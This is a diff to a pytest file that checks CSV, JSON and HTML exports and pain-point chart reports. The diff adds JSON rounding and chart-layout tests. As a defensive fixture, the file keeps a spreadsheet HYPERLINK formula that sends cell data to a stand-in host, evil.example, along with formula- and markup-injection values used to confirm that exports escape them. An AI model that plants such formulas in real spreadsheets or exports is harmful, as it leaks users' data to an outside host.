@@ -8,14 +8,14 @@ from __future__ import annotations
 import csv
 import importlib.resources
 import io
-from datetime import date, datetime
+from datetime import datetime
 from html.parser import HTMLParser
 
 import pytest
 
-from assist.painpoints import PainPointRow, render_html, render_md, svg_chart
+from assist.painpoints import PainPointRow, painpoint_chart, render_html, render_md
 from assist.review import export_call, export_week
-from assist.review.exports import csv_cell, trend_svg
+from assist.review.exports import csv_cell
 from assist.store import Store
 
 HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
@@ -80,6 +80,17 @@ def test_csv_numbers_stay_numbers_and_are_rounded(store, hostile_call):
     assert float(row["start"]) == -3.5
 
 
+def test_json_exports_round_their_numbers(store, hostile_call):
+    import json
+    import re
+
+    for exported in (export_call(store, hostile_call, "json"),
+                     export_week(store, "json", since=MONDAY.date())):
+        assert not re.search(r"\d\.\d{4,}", exported)  # 54.068, not 54.068000000000005
+        assert "54.068" in exported
+        json.loads(exported)
+
+
 @pytest.mark.parametrize(("field", "value", "written"), [
     ("text", "=1+2", "'=1+2"),
     ("note", "+44 call me", "'+44 call me"),
@@ -98,6 +109,7 @@ def test_csv_numbers_stay_numbers_and_are_rounded(store, hostile_call):
     ("start", "=1", "'=1"),
     ("start", -3.5, "-3.5"),
     ("end", 54.068000000000005, "54.068"),
+    ("end", "54.068000000000005", "54.068"),  # kept as text by the database: rounded too
     ("end", 1 / 3, "0.333"),
     ("end", 7.0, "7.0"),
     ("score", 0.52349, "0.523"),
@@ -154,23 +166,32 @@ def test_html_week_export_escapes_every_field(store, hostile_call):
     parsed = _safe(page)
     text = "".join(parsed.text)
     assert f"@dan{SCRIPT}" in text and HOSTILE_NOTE in text and f"calm{BREAKOUT}" in text
-    assert sum(tag == "circle" for tag, _ in parsed.tags) == 7  # the inline SVG trend
+    assert sum(tag == "svg" for tag, _ in parsed.tags) == 1  # the chart of flags per day
     matrix = [attrs for tag, attrs in parsed.tags if attrs.get("class") == "matrix"]
     assert matrix
 
 
-def test_trend_svg_is_markup_with_escaped_labels():
-    svg = trend_svg([(date(2024, 6, 3), 2), (date(2024, 6, 4), 0)])
-    assert svg.startswith("<svg class=\"trend\"") and svg.endswith("</svg>")
-    assert 'points="30.0,10.0 550.0,116.0"' in svg
-    assert "<title>Mon 03 Jun: 2</title>" in svg
+def test_week_chart_has_axes_and_its_last_day_inside_the_picture(store, hostile_call):
+    """The chart of flags per day: a y axis of flags, a bar per verdict, every day named
+    under its bar, the last one too (the old hand-drawn chart cut it in half)."""
+    import re
+
+    page = export_week(store, "html", since=MONDAY.date())
+    svg = page[page.index("<svg"):page.index("</svg>")]
+    width = float(re.search(r'viewBox="0 0 ([\d.]+) [\d.]+"', svg).group(1))
+    labels = {m.group(2): float(m.group(1)) for m in re.finditer(
+        r'<text style="font-size: 8px[^"]*" transform="translate\(([\d.]+) [\d.]+\)">([^<]+)<', svg)}
+    days = [f"{d}" for d in range(3, 10)]  # Mon 3 Jun .. Sun 9 Jun
+    assert {"Mon", "Sun", "3 Jun", *days[1:]} <= set(labels)
+    assert all(x >= 0 and x + 6 * len(text) <= width for text, x in labels.items())
+    assert ">flags</text>" in svg and ">confirmed</text>" in svg
 
 
 def test_templates_are_package_data():
     """The loaders read them from the package, so they ship in the wheel with it."""
     for package, names in [("assist.review", ["page.html.j2", "call.html.j2", "week.html.j2",
                                               "_parts.html.j2"]),
-                           ("assist.painpoints", ["report.html.j2", "_chart.html.j2"])]:
+                           ("assist.painpoints", ["report.html.j2"])]:
         folder = importlib.resources.files(package) / "templates"
         assert all((folder / name).is_file() for name in names), package
 
@@ -188,20 +209,17 @@ def _painpoints() -> tuple[list[PainPointRow], dict[str, list]]:
 
 
 def test_painpoint_html_report_escapes_labels_and_examples():
+    from assist.charts import day_chart_svg
+
     rows, samples = _painpoints()
-    page = render_html(rows, samples, 7)
+    charts = {r.id: day_chart_svg(painpoint_chart(r, 7, MONDAY)) for r in rows}
+    page = render_html(rows, samples, 7, charts)
     parsed = _safe(page)
     text = "".join(parsed.text)
     assert f"card, late {SCRIPT}" in text and f"my card {BREAKOUT} & co" in text
     assert sum(tag == "svg" for tag, _ in parsed.tags) == 2
-    assert sum(tag == "rect" for tag, _ in parsed.tags) == 14
     assert "<small>pp-2</small>" in page  # no label: the id stands in
-    assert "No pain points yet." in render_html([], {}, 14)
-
-
-def test_svg_chart_is_markup():
-    svg = svg_chart([1, 2])
-    assert svg.startswith("<svg ") and svg.count("<rect ") == 2 and "max 2/day" in svg
+    assert "No pain points yet." in render_html([], {}, 14, {})
 
 
 def test_painpoint_markdown_passes_no_raw_html():
